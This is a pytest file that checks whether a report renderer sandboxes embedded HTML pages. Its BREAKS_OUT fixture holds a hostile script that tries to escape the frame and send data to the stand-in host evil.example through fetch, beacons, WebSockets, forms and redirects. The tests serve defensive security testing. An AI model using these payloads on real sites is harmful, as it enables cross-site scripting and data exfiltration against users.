"""The files of a gate run in a browser: they show what they should, and nothing in them runs or gets out."""

from __future__ import annotations

import pytest

from lifecycle.domain.charts import EmbeddedPage
from lifecycle.gates.report.html import render_page

pytestmark = pytest.mark.slow

BREAKS_OUT = """<p>inside</p><script>
const tries = [
  () => alert('pwned'), () => { parent.pwned = 1 }, () => { top.pwned = 1 },
  () => { parent.document.body.innerHTML = 'pwned' }, () => { top.location = 'https://evil.example/top' },
  () => { window.open('https://evil.example/popup') }, () => fetch('https://evil.example/fetch'),
  () => navigator.sendBeacon('https://evil.example/beacon'), () => new WebSocket('wss://evil.example/socket'),
  () => { new Image().src = 'https://evil.example/image.png' }, () => import('https://evil.example/module.js'),
  () => { document.cookie = 'a=1' }, () => localStorage.setItem('a', '1'), () => document.forms[0].submit(),
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => 0) } catch (refused) {} }
setTimeout(() => { location = 'https://evil.example/itself' }, 100);
</script><form action="https://evil.example/form" target="_top"><input name="a"></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<a id="link" href="https://evil.example/link" target="_top">a link</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
"""


@pytest.fixture(scope="module")
def saved(hostile, tmp_path_factory):
    return hostile.save(tmp_path_factory.mktemp("hostile")).as_uri()


@pytest.fixture
def framed(tmp_path):
    """The address of another tool's page as we keep it."""

    def write(html, *, needs_scripts=True):
        file = tmp_path / "page.html"
        file.write_text(
            render_page(EmbeddedPage("page.html", "Somebody's page", html, needs_scripts)), encoding="utf-8"
        )
        return file.as_uri()

    return write


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_report_shows_hostile_words_as_words(visit, saved, hostile, dark):
    seen = visit(saved, dark=dark)
    seen.move_over_everything()
    seen.picture(f"hostile-report-{'dark' if dark else 'light'}")
    assert not seen.pwned
    assert seen.left == []
    assert seen.console == []  # not even something that was blocked
    text = seen.page.inner_text("body")
    for verdict in hostile.verdicts:
        assert verdict.message in text


def test_the_report_asks_for_no_scripts(visit, saved):
    assert visit(saved).page.evaluate("document.scripts.length + document.querySelectorAll('iframe').length") == 0


def test_no_word_is_wider_than_the_page(visit, saved):
    for width in (1200, 400):
        page = visit(saved, width=width).page
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_figures_are_shown_when_asked_for(visit, saved):
    page = visit(saved).page
    cell = page.locator(".lc-figures td").first
    assert not cell.is_visible()
    page.locator("summary").first.click()
    assert cell.is_visible()


@pytest.fixture(scope="module")
def raw_evidently(hostile_words):
    """Evidently's report of columns that are called so, as Evidently writes it."""
    import numpy as np
    import pandas as pd
    from evidently import DataDefinition, Dataset, Report
    from evidently.presets import DataDriftPreset

    words = hostile_words[:3]
    rows = pd.DataFrame({word: np.resize(words, 100) for word in words})
    side = Dataset.from_pandas(rows, DataDefinition(categorical_columns=words))
    return Report([DataDriftPreset()]).run(side, side).get_html_str(as_iframe=False)


def test_evidentlys_own_report_would_run_what_columns_are_called(visit, raw_evidently, tmp_path):
    (tmp_path / "raw.html").write_text(raw_evidently, encoding="utf-8")
    assert visit((tmp_path / "raw.html").as_uri()).pwned


def test_in_our_frame_it_reaches_nobody(visit, raw_evidently, framed):
    seen = visit(framed(raw_evidently))
    inside = seen.page.frames[1]
    assert inside.evaluate("window.pwned") == 1  # it did run
    assert not seen.pwned
    assert seen.left == []


def test_a_page_that_tries_everything_gets_nowhere(visit, framed):
    url = framed(BREAKS_OUT)
    seen = visit(url)
    seen.page.wait_for_timeout(600)  # that it would have had for its own ways out
    assert not seen.pwned
    assert seen.left == []
    assert seen.page.url == url
    assert seen.page.locator("header").is_visible()
    assert [page.url for page in seen.page.context.pages] == [url]
    assert any("evil.example/fetch" in line for line in seen.console)  # it did try


@pytest.mark.parametrize(("needs_scripts", "says"), [(True, "ran"), (False, "inside")])
def test_a_page_runs_scripts_in_its_frame_only_where_it_needs_them(visit, framed, needs_scripts, says):
    script = "<script>document.querySelector('p').textContent = 'ran'</script>"
    page = visit(framed(f"<p>inside</p>{script}", needs_scripts=needs_scripts)).page
    assert page.frame_locator("iframe").locator("p").inner_text() == says
